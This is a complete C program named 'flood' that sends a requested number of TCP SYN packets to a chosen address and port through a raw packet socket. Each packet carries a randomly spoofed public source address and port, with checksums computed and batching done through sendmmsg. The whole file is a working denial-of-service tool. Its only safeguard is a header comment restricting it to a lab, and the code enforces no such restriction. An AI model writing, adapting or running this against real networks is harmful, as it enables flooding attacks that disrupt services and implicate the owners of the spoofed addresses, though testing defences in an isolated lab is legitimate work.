/* SPDX-License-Identifier: GPL-2.0 */
/*
 * flood IFACE DMAC ADDRESS PORT COUNT: that many SYNs to ADDRESS:PORT, each from a random source and port, as fast as
 * a packet socket takes them. For the lab only: it must never be given an interface that leads out of it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 64

struct syn {
	struct ethhdr eth;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

struct pseudo {
	uint32_t saddr, daddr;
	uint8_t zero, proto;
	uint16_t len;
};

/* Sums without folding: the caller adds several. */
static uint32_t sum(const void *data, size_t len)
{
	const uint8_t *byte = data;
	uint32_t total = 0;

	for (size_t i = 0; i + 1 < len; i += 2)
		total += (uint32_t)byte[i] << 8 | byte[i + 1];
	return total;
}

static uint16_t fold(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return htons((uint16_t)~total);
}

static uint64_t next(uint64_t *state) /* xorshift64*, G. Marsaglia and S. Vigna */
{
	*state ^= *state >> 12;
	*state ^= *state << 25;
	*state ^= *state >> 27;
	return *state * 2685821657736338717ULL;
}

/* An address of the world: 11.0.0.0 to 73.255.255.255, where no network of a lab stands. */
static void randomize(struct syn *s, uint64_t *state)
{
	uint64_t r = next(state);
	struct pseudo pseudo;

	s->ip.saddr = htonl((uint32_t)(11 + r % 63) << 24 | ((uint32_t)(r >> 8) & 0xffffff));
	s->tcp.source = htons((uint16_t)(1024 + (r >> 32) % 64000));
	s->tcp.seq = (uint32_t)next(state);
	s->ip.check = 0;
	s->ip.check = fold(sum(&s->ip, sizeof(s->ip)));
	pseudo = (struct pseudo){ s->ip.saddr, s->ip.daddr, 0, IPPROTO_TCP, htons(sizeof(s->tcp)) };
	s->tcp.check = 0;
	s->tcp.check = fold(sum(&pseudo, sizeof(pseudo)) + sum(&s->tcp, sizeof(s->tcp)));
}

static int open_port(const char *iface, uint8_t own[ETH_ALEN])
{
	struct sockaddr_ll at = { .sll_family = AF_PACKET };
	struct ifreq request = { 0 };
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0)
		return -1;
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", iface);
	at.sll_ifindex = (int)if_nametoindex(iface);
	if (!at.sll_ifindex || ioctl(fd, SIOCGIFHWADDR, &request) ||
	    bind(fd, (struct sockaddr *)&at, sizeof(at))) {
		close(fd);
		return -1;
	}
	memcpy(own, request.ifr_hwaddr.sa_data, ETH_ALEN);
	return fd;
}

int main(int argc, char **argv)
{
	static struct syn syns[BATCH];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec parts[BATCH];
	uint64_t state;
	unsigned long count, sent = 0;
	uint8_t to[ETH_ALEN], own[ETH_ALEN];
	struct in_addr address;
	int fd;

	if (argc != 6 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", to, to + 1, to + 2, to + 3, to + 4, to + 5) !=
		    6 ||
	    inet_pton(AF_INET, argv[3], &address) != 1) {
		fprintf(stderr, "usage: flood IFACE DMAC ADDRESS PORT COUNT\n");
		return 2;
	}
	count = strtoul(argv[5], NULL, 10);
	if (getrandom(&state, sizeof(state), 0) != sizeof(state)) {
		fprintf(stderr, "flood: no random numbers: %s\n", strerror(errno));
		return 1;
	}
	state |= 1; /* all but zero */
	fd = open_port(argv[1], own);
	if (fd < 0) {
		fprintf(stderr, "flood: %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	for (int i = 0; i < BATCH; i++) {
		struct syn *s = &syns[i];

		memcpy(s->eth.h_dest, to, ETH_ALEN);
		memcpy(s->eth.h_source, own, ETH_ALEN);
		s->eth.h_proto = htons(ETH_P_IP);
		s->ip = (struct iphdr){ .version = 4,
					.ihl = 5,
					.ttl = 60,
					.protocol = IPPROTO_TCP,
					.tot_len = htons(sizeof(s->ip) + sizeof(s->tcp)),
					.daddr = address.s_addr };
		s->tcp = (struct tcphdr){
			.dest = htons((uint16_t)atoi(argv[4])), .doff = 5, .syn = 1, .window = htons(64240)
		};
		parts[i] = (struct iovec){ s, sizeof(*s) };
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	while (sent < count) {
		unsigned int batch = count - sent < BATCH ? (unsigned int)(count - sent) : BATCH;
		int done;

		for (unsigned int i = 0; i < batch; i++)
			randomize(&syns[i], &state);
		done = sendmmsg(fd, messages, batch, 0);
		if (done < 0 && errno != ENOBUFS && errno != EINTR) {
			fprintf(stderr, "flood: after %lu: %s\n", sent, strerror(errno));
			return 1;
		}
		sent += done > 0 ? (unsigned long)done : 0;
	}
	printf("%lu\n", sent);
	return close(fd) ? 1 : 0;
}
